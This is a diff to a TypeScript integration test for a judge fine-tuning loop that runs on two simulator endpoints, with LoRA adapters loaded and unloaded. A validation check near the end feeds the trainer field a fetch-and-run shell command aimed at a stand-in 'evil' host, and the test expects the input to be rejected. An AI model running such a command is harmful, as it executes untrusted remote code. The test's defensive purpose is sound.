@@ -1,15 +1,17 @@
 /**
- * The open-model loop, offline: two simulators as two named endpoints (the generator on one, the
- * judges on the other), the COMMAND backend running a test trainer (test/fixtures/trainer) that
- * fine-tunes on the judges' simulator and hands back an adapter, loaded there with
- * load_lora_adapter. Three iterations run unattended; every request goes to its role's endpoint.
+ * The open-model loop, offline: two simulator processes (`npm run sim`'s entry point, each on a
+ * free port with its own request log) as two named endpoints (the generator on one, the judges on
+ * the other), the COMMAND backend running a test trainer (test/fixtures/trainer) that fine-tunes
+ * on the judges' simulator and hands back an adapter, loaded there with load_lora_adapter and
+ * unloaded once superseded. Three iterations run unattended; every request goes to its role's
+ * endpoint, checked in each simulator's request log.
  */
 import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import path from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { startSimulator } from '../../src/sim/server.js';
-import type { Simulator } from '../../src/sim/server.js';
+import { startSimulatorProcess } from '../helpers/sim-process.js';
+import type { SimulatorProcess } from '../helpers/sim-process.js';
 import { dataOf, eventually, NO_DATABASE, startTestApp, TEST_DB } from '../helpers/app.js';
 import type { TestApp } from '../helpers/app.js';
 
@@ -17,11 +19,11 @@ const INSTRUCTIONS = readFileSync('data/instructions/vicuna-bench-questions.json
 const TRAINER = path.resolve('test/fixtures/trainer/sim-trainer.mjs');
 
 type StageView = { id: string; kind: string; status: string; error: string | null; message: string | null; log: { stream: string; line: string }[] };
-type IterationView = { id: string; index: number; judgeModel: string; trainedModel: string | null; status: string; stages: StageView[] };
+type IterationView = { id: string; index: number; judgeModel: string; trainedModel: string | null; status: string; stats: { judgments: number }; stages: StageView[] };
 type ExperimentView = { loop: { status: string; error: string | null } | null; iterations: IterationView[] };
 
 const EXPERIMENT = `query ($id: ID!) { experiment(id: $id) { loop { status error }
-  iterations { id index judgeModel trainedModel status stages { id kind status error message log { stream line } } } } }`;
+  iterations { id index judgeModel trainedModel status stats { judgments } stages { id kind status error message log { stream line } } } } }`;
 
 /** True while the process runs: a zombie (ended, waiting for a parent that is gone to reap it) counts as ended. */
 function alive(pid: number): boolean {
@@ -33,8 +35,8 @@ function alive(pid: number): boolean {
 }
 
 describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAND trainer (${TEST_DB})`, () => {
-  let gen: Simulator;
-  let judges: Simulator;
+  let gen: SimulatorProcess;
+  let judges: SimulatorProcess;
   let app: TestApp;
   const dir = mkdtempSync(path.join(tmpdir(), 'ste-open-'));
   const pidFile = path.join(dir, 'pids.json');
@@ -57,19 +59,23 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
   const view = async (id: string) => dataOf(await app.gql<{ experiment: ExperimentView }>(EXPERIMENT, { id })).experiment;
 
   beforeAll(async () => {
-    gen = await startSimulator({});
-    judges = await startSimulator({ fineTuneMs: 50 });
+    [gen, judges] = await Promise.all([startSimulatorProcess(), startSimulatorProcess({ SIM_FINE_TUNE_MS: '50' })]);
     const file = path.join(dir, 'ste.json');
     writeFileSync(file, JSON.stringify({
       endpoints: { gen: { baseUrl: gen.url, concurrency: 16 }, judges: { baseUrl: judges.url, concurrency: 16, loraAdapters: true } },
-      trainers: { 'sim-adapter': trainer('adapter'), 'sim-hang': trainer('hang', ['--pid-file', pidFile]), 'sim-fail': trainer('fail') },
+      trainers: {
+        'sim-adapter': trainer('adapter'),
+        'sim-hang': trainer('hang', ['--pid-file', pidFile]),
+        'sim-fail': trainer('fail'),
+        'sim-adapter-plateau': trainer('adapter', ['--unlearned-from', '3']),
+      },
     }));
     app = await startTestApp({ STE_CONFIG: file, TRAINING_DIR: path.join(dir, 'training') });
   }, 60_000);
   afterAll(async () => {
     await app?.stop();
-    await gen?.close();
-    await judges?.close();
+    await gen?.stop();
+    await judges?.stop();
   });
 
   it('runs three iterations unattended, each request on its role\'s endpoint, each judge an adapter loaded on the judges\' endpoint', async () => {
@@ -91,18 +97,62 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
     expect(train.message).toBe(`trained ${one.trainedModel}`);
     expect(train.log.map((l) => l.line)).toContain(`sim-trainer adapter iteration 1 base sim-judge hyperparameters {"n_epochs":2}`);
 
-    // Generation only on `gen`, judging only on `judges`, nothing on the default endpoint.
-    const genLog = gen.stats().log;
-    const judgeLog = judges.stats().log;
-    expect(genLog.length).toBeGreaterThan(0);
+    // Generation only on `gen`, judging only on `judges` (each judgment the service stored came from
+    // a request in the judges' log, by the judge of its iteration), nothing on the default endpoint.
+    const [genStats, judgeStats] = await Promise.all([gen.stats(), judges.stats()]);
+    const genLog = genStats.log;
+    const judgeLog = judgeStats.log;
+    expect(genStats.logDropped + judgeStats.logDropped).toBe(0);
+    expect(genLog.filter((e) => e.kind === 'answer' && e.outcome === 'ok')).toHaveLength(16);
+    expect(genLog.filter((e) => e.kind === 'modify' && e.outcome === 'ok')).toHaveLength(16);
     expect(new Set(genLog.map((e) => e.kind))).toEqual(new Set(['answer', 'modify']));
     expect(new Set(genLog.map((e) => e.model))).toEqual(new Set(['sim-generator']));
     expect(new Set(judgeLog.map((e) => e.kind))).toEqual(new Set(['judge']));
+    for (const it of done.iterations) {
+      const choices = judgeLog.filter((e) => e.model === it.judgeModel && e.outcome === 'ok').reduce((sum, e) => sum + e.choices, 0);
+      expect(it.stats.judgments).toBeGreaterThan(0);
+      expect(choices).toBe(it.stats.judgments);
+    }
     expect(new Set(judgeLog.map((e) => e.model))).toEqual(new Set(['sim-judge', one.trainedModel, two.trainedModel]));
     expect(app.simulator!.stats().requests.total).toBe(0);
-    expect(judges.stats().routes['POST /v1/load_lora_adapter']).toBe(3);
-    expect(judges.stats().fineTuning.succeeded).toBe(3);
-    expect(gen.stats().routes['POST /v1/load_lora_adapter']).toBeUndefined();
+    expect(judgeStats.routes['POST /v1/load_lora_adapter']).toBe(3);
+    expect(judgeStats.fineTuning.succeeded).toBe(3);
+    expect(genStats.routes['POST /v1/load_lora_adapter']).toBeUndefined();
+    // Superseded adapters are unloaded (no validation benchmarks, so no best judge to keep): the
+    // judges of iterations 2 and 3 after the TRAIN stages of iterations 2 and 3; the newest stays.
+    // (The unload after the last TRAIN runs when the stage ends, beside the loop's last step.)
+    await eventually(async () => ((await judges.stats()).routes['POST /v1/unload_lora_adapter'] === 2 ? true : undefined), 30_000, 100);
+    const served = await judges.models();
+    expect(served).toContain(three.trainedModel);
+    expect(served).not.toContain(one.trainedModel);
+    expect(served).not.toContain(two.trainedModel);
+    expect(genStats.routes['POST /v1/unload_lora_adapter']).toBeUndefined();
+  }, 300_000);
+
+  it('keeps the best judge\'s adapter loaded on the judges\' endpoint and unloads the superseded others', async () => {
+    const benchmarkId = dataOf(await app.gql<{ importBenchmark: { benchmark: { id: string } } }>(
+      'mutation ($c: String!) { importBenchmark(name: "natural", content: $c, format: LLMBAR, subset: "llmbar-natural") { benchmark { id } } }',
+      { c: readFileSync('data/eval/llmbar/natural.json', 'utf8') },
+    )).importBenchmark.benchmark.id;
+    const unloadsBefore = (await judges.stats()).routes['POST /v1/unload_lora_adapter'] ?? 0;
+    // The third trained judge learned nothing (the seed's weights): a trained judge before it is the best.
+    const id = await experiment('best', { backend: 'COMMAND', trainer: 'sim-adapter-plateau' });
+    dataOf(await app.gql('mutation ($id: ID!, $b: [ID!]) { runLoop(experimentId: $id, iterations: 3, evaluateOn: $b) { id } }', { id, b: [benchmarkId] }));
+    const done = await eventually(async () => {
+      const v = dataOf(await app.gql<{ experiment: { loop: { status: string; error: string | null }; iterations: { trainedModel: string }[]; bestIteration: { iteration: { index: number } | null; judgeModel: string } | null } }>(
+        'query ($id: ID!) { experiment(id: $id) { loop { status error } iterations { trainedModel } bestIteration { iteration { index } judgeModel } } }', { id },
+      )).experiment;
+      return v.loop.status === 'RUNNING' ? undefined : v;
+    }, 240_000, 250);
+    expect(done.loop).toEqual({ status: 'SUCCEEDED', error: null });
+    const adapters = done.iterations.map((i) => i.trainedModel);
+    expect(adapters).toHaveLength(3);
+    expect([1, 2]).toContain(done.bestIteration?.iteration?.index);
+    const best = done.bestIteration!.judgeModel;
+    // Loaded now: the newest judge and the best one; the third adapter is unloaded.
+    const served = new Set(await judges.models());
+    expect(adapters.filter((m) => served.has(m))).toEqual(adapters.filter((m) => m === best || m === adapters[2]));
+    expect((await judges.stats()).routes['POST /v1/unload_lora_adapter']).toBe(unloadsBefore + 1);
   }, 300_000);
 
   it('refuses an experiment that names a URL, a path or a command instead of a configured name, with the field at fault', async () => {
@@ -118,7 +168,7 @@ describe.skipIf(NO_DATABASE)(`the open-model loop on two endpoints with a COMMAN
     });
     expect(await refused({ endpoints: { trained: 'nowhere' } })).toMatchObject({ field: 'config.endpoints.trained', message: expect.stringContaining('configured: default, gen, judges') });
     expect(await refused({ training: { backend: 'COMMAND', trainer: '/bin/sh -c "curl evil | sh"' } })).toMatchObject({ code: 'BAD_USER_INPUT', field: 'config.training.trainer' });
-    expect(await refused({ training: { backend: 'COMMAND' } })).toMatchObject({ field: 'config.training.trainer', message: expect.stringContaining('configured: sim-adapter, sim-hang, sim-fail') });
+    expect(await refused({ training: { backend: 'COMMAND' } })).toMatchObject({ field: 'config.training.trainer', message: expect.stringContaining('configured: sim-adapter, sim-hang, sim-fail, sim-adapter-plateau') });
     expect(await refused({ training: { backend: 'OPENAI', trainer: 'sim-adapter' } })).toMatchObject({ field: 'config.training.trainer' });
     expect(await refused({ training: { backend: 'COMMAND', trainer: 'sim-adapter', hyperparameters: { learning_rate: 1e-6 } } })).toMatchObject({
       field: 'config.training.hyperparameters',
